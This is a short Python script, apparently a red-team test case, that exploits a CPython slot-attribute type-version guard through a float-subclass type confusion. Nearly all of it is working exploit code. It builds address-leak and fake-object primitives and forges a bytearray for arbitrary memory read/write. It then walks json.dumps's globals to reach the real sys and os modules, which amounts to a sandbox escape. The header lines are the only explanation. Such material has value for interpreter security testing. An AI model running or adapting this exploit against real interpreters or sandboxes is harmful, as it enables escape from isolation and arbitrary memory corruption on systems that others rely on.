# technique: the same version-0 guard on LOAD_ATTR_SLOT/STORE_ATTR_SLOT of a class with a 120-character slot name: a changed float subclass (also version 0) passes it, so its float value is written as an object pointer and read back as one: an address leak and a fake bytearray, then json.dumps's globals, the real sys and os (red-team pass 70)
# expect: any
import struct, json
class A:
    __slots__ = ("ssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssss",)
class B(float):
    pass
A.zz = 1
B.zz = 1
a = A()
def put(o, v):
    o.ssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssss = v
def get(o):
    return o.ssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssssss
for i in range(200):
    put(a, i)
    get(a)
def addrof(obj):
    b = B(0.0)
    put(b, obj)
    r = struct.unpack("<Q", struct.pack("<d", b))[0]
    put(b, None)
    return r
def fakeobj(addr):
    return get(B(struct.unpack("<d", struct.pack("<Q", addr))[0]))
fake = struct.pack("<QQQQQQQQ", 1 << 40, addrof(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 1, 0)
mem = fakeobj(addrof(fake) + 32)
print(type(mem), len(mem))
def q(p):
    return int.from_bytes(mem[p:p + 8], "little")
f = json.dumps
print(type(f).__name__, f.__module__)
g = fakeobj(q(addrof(f) + 16))
print(type(g).__name__, len(g), sorted(k for k in g if not k.startswith("__"))[:8])
sysm = g["codecs"].sys
print("real sys:", sysm.version.split()[0], "os.getpid:", sysm.modules["os"].getpid())
